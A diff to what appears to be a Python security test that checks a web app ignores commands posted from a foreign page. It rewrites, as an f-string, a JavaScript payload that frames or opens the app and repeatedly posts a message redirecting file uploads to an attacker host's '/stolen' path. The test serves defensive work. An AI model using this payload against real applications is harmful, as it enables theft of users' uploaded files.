@@ -334,18 +334,15 @@ def test_no_foreign_page_may_command_the_app_under_whatever_address_its_browser_
 # ------------------------------------------------------------------------------------------ in a browser
 FRAMING = "<!doctype html><title>x</title><iframe src='{app}/portfolio' width=1200 height=900></iframe>"
 OPENING = "<!doctype html><title>x</title><button onclick=\"window.app = window.open('{app}/portfolio')\">Open</button>"
-COMMAND = (
-    """target => {
+COMMAND = f"""target => {{
     const to = target === 'frame' ? frames[0] : window.app;
     window.sent = 0;
-    const command = {stCommVersion: 1, type: 'SET_FILE_UPLOAD_CLIENT_CONFIG', prefix: '%s/stolen', headers: {}};
-    setInterval(() => {
+    const command = {{stCommVersion: 1, type: 'SET_FILE_UPLOAD_CLIENT_CONFIG', prefix: '{EVIL}/stolen', headers: {{}}}};
+    setInterval(() => {{
         window.sent += 1;
         to.postMessage(command, '*');
-    }, 50);
-}"""
-    % EVIL
-)
+    }}, 50);
+}}"""
 PORTFOLIO = (ROOT / "scoring" / "portfolio" / "example_services.csv").read_bytes()
 
 
